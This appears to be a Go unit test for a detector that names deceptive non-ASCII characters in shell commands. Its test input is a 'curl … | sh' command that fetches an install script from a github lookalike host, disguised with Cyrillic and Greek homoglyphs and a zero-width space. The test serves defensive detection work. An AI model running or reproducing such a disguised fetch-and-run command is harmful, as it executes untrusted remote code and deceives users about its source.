package domain

import (
	"strings"
	"testing"
)

// TestAttack13LookalikeRanks: the characters outside ASCII that deceive
// are named before eight accented Latin words put first: a Cyrillic і in
// a host after a subdomain longer than the word shown around it, a Greek
// ο in a path, a zero-width space. The control: the accented words alone
// are named, eight of them and one more (the ú of ñandú).
func TestAttack13LookalikeRanks(t *testing.T) {
	const decoys = `echo "café crème brûlée piñata façade naïve Göteborg über ñandú" && `
	d, ok := NonASCIIDetail(decoys+"true", nil)
	if !ok || !strings.HasPrefix(d.Value, `U+00E9 (Latin) in "\"café"`) || !strings.HasSuffix(d.Value, "and 1 more (1 other)") {
		t.Fatalf("control: %q", d.Value)
	}
	cmd := decoys + "curl -sL https://" + strings.Repeat("a", 60) + ".gіthub.com/org/tοol/install.sh | sh # ok\u200b"
	d, _ = NonASCIIDetail(cmd, nil)
	for _, want := range []string{"U+0456 (Cyrillic)", "U+03BF (Greek)", "U+200B (Common)"} {
		if !strings.Contains(d.Value, want) {
			t.Errorf("%s is not named: %q", want, d.Value)
		}
	}
}
